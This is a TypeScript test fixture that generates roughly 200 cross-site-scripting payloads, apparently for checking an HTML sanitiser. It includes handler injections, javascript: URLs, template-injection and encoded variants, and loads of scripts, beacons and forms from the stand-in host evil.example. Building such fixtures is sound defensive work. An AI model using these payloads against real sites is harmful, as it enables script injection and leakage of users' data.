/** 200 ways in which a text becomes a script, if anything takes it for markup (safety 9). Each would leave a mark. */
const run = 'window.__ran=1'
const mark = 'data-canary'
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onbeforetoggle',
]
const breaks = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '\u2028">',
  '</template>',
  ']]>',
  '&quot;>',
  '\\">',
  '%22%3E',
]
const elements = [
  `<script ${mark}>${run}</script>`,
  `<script ${mark} src="//evil.example/x.js"></script>`,
  `<img ${mark} src=x onerror="${run}">`,
  `<svg ${mark} onload="${run}">`,
  `<svg ${mark}><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<iframe ${mark} srcdoc="<script>top.__ran=1</script>"></iframe>`,
  `<details ${mark} open ontoggle="${run}">x</details>`,
  `<math ${mark}><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<a ${mark} href="javascript:${run}">x</a>`,
]
const alone = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `data:text/html,<script ${mark}>${run}</script>`,
  `"onfocus="${run}" autofocus ${mark} x="`,
  `' onmouseover='${run}' ${mark} x='`,
  `\`;${run};//`,
  `";${run};//`,
  `';${run};//`,
  `</script><script ${mark}>${run}</script>`,
  `<!--<script ${mark}>${run}</script>-->`,
  `<![CDATA[<script ${mark}>${run}</script>]]>`,
  `<base ${mark} href="//evil.example/">`,
  `<meta ${mark} http-equiv="refresh" content="0;url=//evil.example">`,
  `<link ${mark} rel="stylesheet" href="//evil.example/x.css">`,
  `<style ${mark}>@import "//evil.example/x.css";</style>`,
  `<form ${mark} action="//evil.example"><button>x</button></form>`,
  `<object ${mark} data="//evil.example/x.swf"></object>`,
  `<embed ${mark} src="//evil.example/x">`,
  `<img ${mark} src="//evil.example/beacon.png">`,
  `<video ${mark}><source onerror="${run}"></video>`,
  `<body ${mark} onload="${run}">`,
  `<input ${mark} autofocus onfocus="${run}">`,
  `<marquee ${mark} onstart="${run}">`,
  `<template ${mark} shadowrootmode="open"><img src onerror="${run}"></template>`,
  `<x ${mark} style="background:url(//evil.example/x)">`,
  `<isindex ${mark} action="javascript:${run}" type=image>`,
  `＜script ${mark}＞${run}＜/script＞`,
  `&lt;script ${mark}&gt;${run}&lt;/script&gt;`,
  `&#60;script ${mark}&#62;${run}&#60;/script&#62;`,
  `\\u003cscript ${mark}\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript ${mark}%3E${run}%3C/script%3E`,
  `<scr\u0000ipt ${mark}>${run}</script>`.replace('\u0000', '\u0001'),
  `<script/${mark}/x>${run}</script/x>`,
  `[x](javascript:${run})`,
  `![x](//evil.example/x.png)`,
  `__proto__[innerHTML]=<img ${mark} src onerror="${run}">`,
]

export const scriptPayloads: readonly string[] = [
  ...breaks.flatMap((before) => elements.map((element) => before + element)),
  ...handlers.map((handler) => `<img ${mark} src=x ${handler}=${run}>`),
  ...handlers.map((handler) => `x" ${handler}="${run}" ${mark} style="animation:x" tabindex=0 autofocus y="`),
  ...alone,
]

/** The nth handful of them, as one text. */
export const handful = (at: number, size = 10): string => {
  const from = (at * size) % scriptPayloads.length
  return [...scriptPayloads, ...scriptPayloads].slice(from, from + size).join(' ')
}
